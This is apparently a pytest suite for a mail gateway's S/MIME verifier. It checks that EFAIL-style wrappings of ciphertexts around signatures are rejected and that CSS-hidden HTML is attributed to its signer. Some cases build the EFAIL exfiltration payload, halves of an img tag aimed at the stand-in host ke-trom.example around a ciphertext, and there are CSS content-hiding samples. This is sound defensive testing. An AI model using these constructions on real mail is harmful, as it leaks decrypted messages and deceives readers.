"""Ciphertexts under a signature and beside one: who signs what he cannot read lends it his name (EFAIL).

Also covert content: HTML that its own signer made to look different here and there.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

import pytest

from gateway.cms.asn1 import tlv
from support.attacks import AUTHOR, Honest, head, part, signer
from support.forger import Forger, oid, sequence
from support.letters import base64_lines, clear_entity, detached, multipart, opaque_entity
from support.verifiers import openssl_encrypt

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from support.attacks import Field

ENVELOPED: Final = "1.2.840.113549.1.7.3"
ENCRYPTED_DATA: Final = "1.2.840.113549.1.7.6"
AUTHENTICATED: Final = "1.2.840.113549.1.9.16.1.23"
COMPRESSED: Final = "1.2.840.113549.1.9.16.1.9"
ATTACHED: Final = b"Content-Disposition: attachment; filename=a.p7m\r\n"
ENCRYPTED_INSIDE: Final = ("encrypted", "encrypted_inside")


def cms(kind: str = ENVELOPED) -> bytes:
    """Return a CMS of a kind, which nobody can read."""
    return sequence(oid(kind), tlv(0xA0, sequence(tlv(0x02, b"\x00"), tlv(0x04, bytes(200)))))


def ciphertext(kind: str = ENVELOPED, *, smime_type: str = "enveloped-data") -> bytes:
    """Return it as an entity."""
    return opaque_entity(cms(kind), smime_type=smime_type)


def as_type(media_type: str, kind: str = ENVELOPED) -> bytes:
    """Return it under another type."""
    return f"Content-Type: {media_type}\r\nContent-Transfer-Encoding: base64\r\n\r\n".encode() + base64_lines(cms(kind))


def letter_inside(entity: bytes, parameters: str = "") -> bytes:
    """Return a message of the same author as an entity."""
    return f"Content-Type: message/rfc822{parameters}\r\n\r\n".encode() + head() + b"MIME-Version: 1.0\r\n" + entity


INSIDE: dict[str, tuple[Callable[[], bytes], tuple[str, str]]] = {
    "alone": (ciphertext, ENCRYPTED_INSIDE),
    "called signed": (lambda: ciphertext(smime_type="signed-data"), ENCRYPTED_INSIDE),
    "called nothing": (lambda: as_type("application/pkcs7-mime"), ENCRYPTED_INSIDE),
    "by the old name": (lambda: as_type("application/x-pkcs7-mime; name=smime.p7m"), ENCRYPTED_INSIDE),
    "a file by its name": (lambda: as_type("application/octet-stream; name=smime.p7m"), ENCRYPTED_INSIDE),
    "authenticated": (lambda: ciphertext(AUTHENTICATED, smime_type="authEnveloped-data"), ENCRYPTED_INSIDE),
    "encrypted by a key known before": (lambda: as_type("application/pkcs7-mime", ENCRYPTED_DATA), ENCRYPTED_INSIDE),
    "compressed": (lambda: ciphertext(COMPRESSED, smime_type="compressed-data"), ENCRYPTED_INSIDE),
    "beside words": (lambda: multipart("mixed", part(), ciphertext(), boundary="in"), ENCRYPTED_INSIDE),
    "before words": (lambda: multipart("mixed", ciphertext(), part(), boundary="in"), ENCRYPTED_INSIDE),
    "as alternative": (lambda: multipart("alternative", part(), ciphertext(), boundary="in"), ENCRYPTED_INSIDE),
    "between halves of a tag": (
        lambda: multipart(
            "mixed",
            part('<img src="http://ke-trom.example/', subtype="html"),
            ciphertext(),
            part('">', subtype="html"),
            boundary="in",
        ),
        ENCRYPTED_INSIDE,
    ),
    "fetched by HTML": (
        lambda: multipart(
            "related",
            part('<iframe src="cid:a">', subtype="html"),
            b"Content-ID: <a>\r\n" + ciphertext(),
            boundary="in",
        ),
        ENCRYPTED_INSIDE,
    ),
    "inside a signature inside": (
        lambda: clear_entity(ciphertext(), detached(ciphertext(), signer()), boundary="in"),
        ENCRYPTED_INSIDE,
    ),
    "in a whole letter": (lambda: letter_inside(ciphertext()), ENCRYPTED_INSIDE),
    "in a whole letter beside words": (
        lambda: letter_inside(multipart("mixed", part(), ciphertext(), boundary="in")),
        ENCRYPTED_INSIDE,
    ),
    "in a whole letter that is called forwarded": (
        lambda: letter_inside(ciphertext(), "; forwarded=yes"),
        ENCRYPTED_INSIDE,
    ),
    "in a letter alone in a multipart": (
        lambda: multipart("mixed", letter_inside(ciphertext()), boundary="in"),
        ENCRYPTED_INSIDE,
    ),
    "in a file alone in a multipart": (
        lambda: multipart("mixed", ATTACHED + ciphertext(), boundary="in"),
        ENCRYPTED_INSIDE,
    ),
    "in a whole letter, encoded once more": (
        lambda: (
            b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + base64_lines(letter_inside(ciphertext()).partition(b"\r\n\r\n")[2])
        ),
        ("unreadable", "ambiguous_structure"),
    ),
    "PGP": (
        lambda: multipart(
            "encrypted",
            b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n",
            b"Content-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n",
            boundary="in",
            parameters='; protocol="application/pgp-encrypted"',
        ),
        ENCRYPTED_INSIDE,
    ),
}


@pytest.mark.parametrize("form", ["clear", "opaque"])
@pytest.mark.parametrize("idea", sorted(INSIDE))
def test_a_ciphertext_under_a_signature(field: Field, idea: str, form: str) -> None:
    """A thief takes a ciphertext, signs it, and the reader sees its words under the thief's name: never verified."""
    make, why = INSIDE[idea]
    honest = Honest()
    content = make()
    forged = clear_entity(content, detached(content, signer()))
    if form == "opaque":
        forged = opaque_entity(Forger(signer()).cms(content, content=tlv(0x04, content)))
    assert field.attack(honest.message, honest.under(forged)).why == why


OUTSIDE: dict[str, tuple[Callable[[Honest], bytes], tuple[str, str]]] = {
    "called signed": (lambda _: ciphertext(smime_type="signed-data"), ("encrypted", "enveloped")),
    "halves of a tag around it": (
        lambda _: multipart(
            "mixed",
            part('<img src="http://ke-trom.example/', subtype="html"),
            ciphertext(),
            part('">', subtype="html"),
        ),
        ("unsigned", "signed_inside_attachment"),
    ),
    "beside the signed part": (lambda h: multipart("mixed", h.entity, ciphertext()), ("partial", "part_beside_signed")),
    "in the place of the signature": (
        lambda h: h.entity.replace(h.entity[h.entity.rindex(b"base64\r\n\r\n") + 10 : -11], base64_lines(cms())),
        ("encrypted", "enveloped"),
    ),
    "in the place of the signed part": (
        lambda h: clear_entity(ciphertext(), h.cms),
        ("invalid", "digest_mismatch"),
    ),
    "compressed": (lambda _: ciphertext(COMPRESSED, smime_type="compressed-data"), ("unreadable", "compressed")),
    "signed data called encrypted": (
        lambda h: opaque_entity(h.cms, smime_type="enveloped-data"),
        ("invalid", "content_missing"),
    ),
}


@pytest.mark.parametrize("idea", sorted(OUTSIDE))
def test_a_ciphertext_beside_or_instead_of_a_signature(field: Field, idea: str) -> None:
    """What cannot be read is not verified, and does not become so by what stands around it."""
    forge, why = OUTSIDE[idea]
    honest = Honest()
    assert field.attack(honest.message, honest.under(forge(honest))).why == why


def test_a_real_ciphertext(field: Field, tmp_path: Path) -> None:
    """One that OpenSSL made for a recipient: alone it is called encrypted, under a signature too."""
    sealed = opaque_entity(openssl_encrypt(part(), signer(), tmp_path), smime_type="enveloped-data")
    honest = Honest()
    assert field.attack(honest.message, honest.under(sealed)).why == ("encrypted", "enveloped")
    forged = honest.under(clear_entity(sealed, detached(sealed, signer())))
    assert field.harmless(forged).why == ENCRYPTED_INSIDE


def test_an_encrypted_file_is_a_file(field: Field) -> None:
    """Attached, or in a letter that is passed on beside words, a ciphertext is carried, not shown as the author's."""
    field.honest(_signed(multipart("mixed", part(), ATTACHED + ciphertext(), boundary="in")))
    field.honest(_signed(multipart("mixed", part(), letter_inside(ciphertext()), boundary="in")))


def _signed(content: bytes) -> bytes:
    return Honest(part=content).message


COVERT: Final = {
    "hidden until it is quoted": "<style>.a{display:none} blockquote .a{display:block}</style><p class=a>Dong y.</p>",
    "other words on paper": "<style>@media print{.a{display:none}}</style><p class=a>5</p><p>500</p>",
    "other words on a telephone": "<style>@media (max-width:600px){.a{display:none}}</style><p class=a>5</p>",
    "other words in other programs": "<style>@-moz-document url-prefix(){.a{display:none}}</style><p class=a>5</p>",
    "an attachment shown in the text": '<img src="cid:a">',
}


@pytest.mark.parametrize("idea", sorted(COVERT))
def test_covert_content_is_its_signers_own(field: Field, idea: str) -> None:
    """Whoever signs HTML that shows other words elsewhere has signed them all: verified, and told whose it is."""
    found = field.honest(_signed(part(COVERT[idea], subtype="html")))
    assert AUTHOR in found.all("from")[0]
